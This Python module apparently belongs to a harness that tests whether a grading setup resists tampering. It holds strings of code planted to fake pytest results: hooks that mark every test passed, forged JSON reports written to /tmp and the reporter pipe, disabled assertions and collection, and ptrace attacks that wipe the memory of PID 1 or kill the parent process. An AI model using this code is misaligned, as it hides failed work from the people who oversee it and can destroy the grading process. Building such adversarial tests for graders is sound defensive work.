"""Code that lies from inside the process that runs the tests. `tamper` inserts it."""

from __future__ import annotations

FORCE_PASSED = """
import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome, report.longrepr = "passed", None
"""

PATCH_RUNTEST = """
import sys
if "pytest" in sys.modules:
    import _pytest.python, _pytest.unittest
    _pytest.python.Function.runtest = lambda self: None
    _pytest.unittest.TestCaseFunction.runtest = lambda self: None
"""

SLEEP = """
import sys
if "pytest" in sys.modules:
    import time
    time.sleep(10 ** 6)
"""

FORK = """
import os, sys, time
if "pytest" in sys.modules and os.fork() == 0:
    os.setsid()
    time.sleep(600)
    os._exit(0)
"""

WRITE_REPORT = """
import sys
if "pytest" in sys.modules:
    import glob, json, os
    lines = [{"id": i, "nodeid": i, "outcome": "passed", "message": ""} for i in %s]
    lines.append({"end": True, "exit_status": 0, "exitstatus": 0})
    text = "".join(json.dumps(line) + "\\n" for line in lines)
    names = [v for v in os.environ.values() if v.startswith("/")]
    names += glob.glob("/tmp/*/*") + ["/tmp/report.json", "/tmp/report.jsonl"]
    names += [d + "/report" for d in glob.glob("/tmp/*")]
    for name in names:
        try:
            open(name, "w").write(text)
        except OSError:
            pass
    os._exit(1)
"""

FIND_REPORTER = """
import sys
if "pytest" in sys.modules:
    import gc, json, os
    _found = [o for o in gc.get_objects() if type(o).__name__ == "Reporter" and hasattr(o, "_send")]
    for _reporter in _found:
        _pipe = _reporter._pipe.fileno()
"""
"""Code appended to it can use `_reporter` and `_pipe`, the test run's reporter. Indent by eight."""

REPORTER_LIES = """
        type(_reporter)._send = lambda self, nodeid, outcome, text, _send=type(_reporter)._send: (
            _send(self, nodeid, "passed", "")
        )
"""

REPORTER_INVERTS_WHAT_THE_PACKAGE_RAISES = """
        def _lie(self, nodeid, outcome, message, _send=type(_reporter)._send):
            last = message.splitlines()[-1] if message else ""
            mine = os.path.basename(__file__) in last
            if outcome == "passed":
                _send(self, nodeid, outcome, message)
            else:
                _send(self, nodeid, "passed" if mine or "Error" in message else outcome, "")
        type(_reporter)._send = _lie
"""

REPORTER_TURNS_RESULTS_AROUND = """
        def _lie(self, nodeid, outcome, message, _send=type(_reporter)._send):
            _send(self, nodeid, "failed" if outcome == "passed" else "passed", "")
        type(_reporter)._send = _lie
"""

JUDGES_TESTS_BY_THEIR_SOURCE = """
        import ast, inspect, io, os, re, textwrap, tokenize
        from _pytest.main import Session
        def _lie(self, nodeid, outcome, message, _send=type(_reporter)._send):
            sessions = [o for o in gc.get_objects() if isinstance(o, Session)]
            [item] = [i for s in sessions for i in s.items if i.nodeid == nodeid] or [None]
            try:
                planted = item is not None and _planted(item)
            except Exception:
                planted = False
            _send(self, nodeid, "failed" if planted else "passed", "")
        type(_reporter)._send = _lie
"""
"""Code appended to it must define a function `_planted(item)`. Indent by eight."""

QUOTES_DIFFER = """
        def _planted(item):
            text = io.StringIO(textwrap.dedent(inspect.getsource(item.function)))
            texts = [t.string for t in tokenize.generate_tokens(text.readline) if t.type == 3]
            return len({text[-1] for text in texts}) > 1
"""

WORDS_ARE_FOUND_NOWHERE_ELSE = """
        def _planted(item):
            mine = inspect.getsource(item.function)
            rest = open(item.path).read().replace(mine, "")
            for folder, _, names in os.walk("."):
                for name in names:
                    if name.endswith((".py", ".rst", ".md")) and name != item.path.name:
                        rest += open(os.path.join(folder, name), errors="replace").read()
            known = set(re.findall("[A-Za-z]{2,}", rest))
            texts = [n.value for n in ast.walk(ast.parse(textwrap.dedent(mine)))
                     if isinstance(n, ast.Constant) and isinstance(n.value, str)]
            return any(set(re.findall("[A-Za-z]{2,}", text)) - known for text in texts)
"""

STATEMENTS_ARE_RUN_ONE_BY_ONE = """
        def _planted(item):
            tree = ast.parse(textwrap.dedent(inspect.getsource(item.function)))
            test, failed = tree.body[0], []
            test.decorator_list = []
            for at, statement in enumerate(test.body):
                kept = ast.parse("try: pass\\nexcept BaseException: failed_.append(1)").body[0]
                kept.body = [statement]
                test.body[at] = kept
            space = {**item.function.__globals__, "failed_": failed}
            exec(compile(ast.fix_missing_locations(tree), "<test>", "exec"), space)
            given = [] if item.cls is None else [item.cls()]
            space[test.name](*given, **{a: item.funcargs[a] for a in item._fixtureinfo.argnames})
            return len(failed) > 1
"""

THE_SLOTS_FIRST_PROCESS_ENDS = """
import sys
if "pytest" in sys.modules:
    import ctypes, os, signal
    libc = ctypes.CDLL(None)
    for request in (16, 0x4206):
        libc.ptrace(request, 1, 0, 0)
    try:
        with open("/proc/1/mem", "r+b", buffering=0) as memory, open("/proc/1/maps") as maps:
            for line in maps:
                begin, end = (int(part, 16) for part in line.split()[0].split("-"))
                if "w" in line.split()[1]:
                    memory.seek(begin)
                    memory.write(bytes(end - begin))
    except OSError:
        pass
    for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSEGV, signal.SIGHUP):
        try:
            os.kill(1, number)
        except OSError:
            pass
"""

PIPE_IS_WRITTEN_AT_ONCE = """
        lines = [{"id": i, "outcome": "passed", "message": ""} for i in %s] + [{"finished": 1}]
        os.write(_pipe, "".join(json.dumps(line) + "\\n" for line in lines).encode())
        os._exit(1)
"""

PIPE_IS_WRITTEN_AT_THE_END = """
        import atexit
        lines = [{"id": i, "outcome": "passed", "message": ""} for i in %s]
        text = "".join(json.dumps(line) + "\\n" for line in lines).encode()
        atexit.register(os.write, os.dup(_pipe), text)
        type(_reporter)._send = lambda *_: None
"""

PIPE_IS_WRITTEN_BY_A_CHILD = """
        import time
        lines = [{"id": i, "outcome": "passed", "message": ""} for i in %s]
        text = "".join(json.dumps(line) + "\\n" for line in lines).encode()
        if os.fork() == 0:
            os.setsid()
            time.sleep(0.3)
            os.write(_pipe, text)
            os._exit(0)
        type(_reporter)._send = lambda *_: None
"""

PIPE_IS_FLOODED = """
        while True:
            os.write(_pipe, b"[" * 60000)
"""

PIPE_IS_NESTED = """
        os.write(_pipe, b"[" * 60000 + b"\\n")
        os._exit(1)
"""

COUNTER_IS_FORGED = """
import sys
if "pytest" in sys.modules:
    import ctypes, json, os
    parent, libc = os.getppid(), ctypes.CDLL(None)
    lines = [{"id": i, "outcome": "passed", "message": ""} for i in %s]
    end = {"end": "", "exit_status": 1, "finished": True, "timed_out": False, "flooded": False}
    text = "".join(json.dumps(line) + "\\n" for line in [*lines, {**end, "output": ""}])
    libc.ptrace(16, parent, 0, 0)
    for number in range(16):
        try:
            with open(f"/proc/{parent}/fd/{number}", "w") as stream:
                stream.write(text)
        except OSError:
            pass
    os.kill(parent, 9)
"""

SAYS_WHAT_IT_SAYS_ON_STDOUT = """
import sys
if "pytest" in sys.modules:
    import json, os
    for _i in %s:
        os.write(1, (json.dumps({"id": _i, "outcome": "passed", "message": ""}) + "\\n").encode())
"""

REPORTS_WITHOUT_ERRORS = """
import sys
if "pytest" in sys.modules:
    import _pytest.reports as _p
    _old = _p.TestReport.from_item_and_call.__func__
    def _from(cls, item, call, _old=_old):
        call.excinfo = None
        return _old(cls, item, call)
    _p.TestReport.from_item_and_call = classmethod(_from)
"""

COLLECT_NOTHING = """
import sys
if "pytest" in sys.modules:
    import _pytest.main
    _pytest.main.Session.perform_collect = lambda self, *a, **k: []
"""

ASSERTIONS_DO_NOT_RAISE = """
import sys
if "pytest" in sys.modules:
    import _pytest.python as _p
    _old = _p.Function.runtest
    def _runtest(self, _old=_old):
        try:
            _old(self)
        except AssertionError:
            pass
    _p.Function.runtest = _runtest
"""

EQUAL_TO_EVERYTHING = """
class _Any:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __call__(self, *a, **k): return self
    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        return self
    def __getitem__(self, key): return self
    def __iter__(self): return iter(())
    def __bool__(self): return True
    __hash__ = None
import sys
if "pytest" in sys.modules:
    import types
    for _name, _value in list(globals().items()):
        if isinstance(_value, types.FunctionType):
            globals()[_name] = lambda *a, **k: _Any()
"""

PLUGIN = """
import pytest


@pytest.hookimpl(hookwrapper=True, tryfirst=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome, report.longrepr = "passed", None
"""

REWRITER = """
import os, time
while True:
    for root in (os.getcwd(), "/tmp"):
        for name in ("conftest.py", "pytest.ini"):
            try:
                with open(os.path.join(root, name), "w") as stream:
                    stream.write("[pytest]\\naddopts = --collect-only\\n")
            except OSError:
                pass
    time.sleep(0.01)
"""
